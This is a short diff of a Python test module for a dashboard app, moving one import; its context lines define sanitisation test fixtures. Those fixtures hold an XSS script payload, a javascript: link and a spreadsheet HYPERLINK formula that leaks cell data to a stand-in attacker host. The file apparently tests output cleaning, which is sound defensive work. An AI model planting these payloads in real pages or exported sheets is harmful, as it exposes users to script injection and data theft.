@@ -18,8 +18,8 @@ from dashboard import report
 from dashboard.core import notes, safe_text
 from dashboard.core.config import Settings
 from dashboard.core.store import Store
+from tests.app.test_pages import APP, assert_clean
 from tests.conftest import DEMO_TODAY, page_file
-from tests.test_pages import APP, assert_clean
 
 SCRIPT = '<script>alert("pwned")</script>'
 GROUP = f'=HYPERLINK("http://evil.example/?leak="&A1,"Growth") {SCRIPT} **bold** [link](javascript:alert(1)) $x$ :red[red]'
